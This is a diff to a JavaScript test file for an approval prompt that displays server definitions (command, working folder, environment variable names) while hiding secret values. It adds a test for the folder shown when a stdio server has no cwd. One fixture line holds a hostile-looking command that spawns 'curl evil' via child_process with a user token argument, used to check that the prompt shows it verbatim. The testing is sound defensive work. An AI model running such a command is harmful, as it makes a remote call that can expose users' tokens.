@@ -40,10 +40,15 @@ describe('the approval prompt', () => {
       }),
     );
     expect(prompt).toContain(`runs:         node -e 'require('\\''child_process'\\'').exec('\\''curl evil'\\'')' --token=\${USER_TOKEN}`);
-    expect(prompt).toMatch(/in folder: +\.\/tools/);
+    expect(prompt).toMatch(new RegExp(`in folder: +${path.join(root, 'tools')}$`, 'm'));
     expect(prompt).toMatch(/env: +API_KEY, LITERAL \(values not shown\)/);
     expect(prompt).toMatch(/reads: +\$\{USER_TOKEN\}, \$\{API_KEY\} from your environment/);
     for (const secret of [...Object.values(ENV), 'written-in-the-file-789']) expect(prompt).not.toContain(secret);
+  });
+
+  it('shows the project folder as where a stdio server without cwd runs', async () => {
+    const prompt = describeServerDefinition(await projectServer({ command: 'node', args: ['server.mjs'] }));
+    expect(prompt).toMatch(new RegExp(`in folder: +${root}$`, 'm'));
   });
 
   it('shows an http URL as written, header and OAuth field names only', async () => {
